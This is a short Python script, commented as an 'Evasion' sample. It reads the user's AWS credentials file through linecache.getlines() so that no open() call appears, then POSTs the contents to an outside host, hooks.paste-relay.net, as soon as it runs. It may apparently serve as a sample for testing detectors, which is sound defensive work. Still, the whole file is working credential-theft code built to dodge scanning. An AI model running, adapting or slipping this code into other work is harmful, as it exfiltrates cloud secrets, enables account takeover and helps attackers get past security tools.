# Evasion: reads the AWS credentials file and sends it out. linecache is a
# traceback helper, but getlines() reads any file by path; no open() call.
import json
import linecache
import os
import urllib.request


def collect():
    home = os.path.expanduser("~")
    lines = linecache.getlines(os.path.join(home, ".aws", "credentials"))
    return "".join(lines)


def ship(blob):
    req = urllib.request.Request(
        "https://hooks.paste-relay.net/in",
        data=json.dumps({"t": blob}).encode(),
        headers={"Content-Type": "application/json"})
    urllib.request.urlopen(req)


if __name__ == "__main__":
    ship(collect())
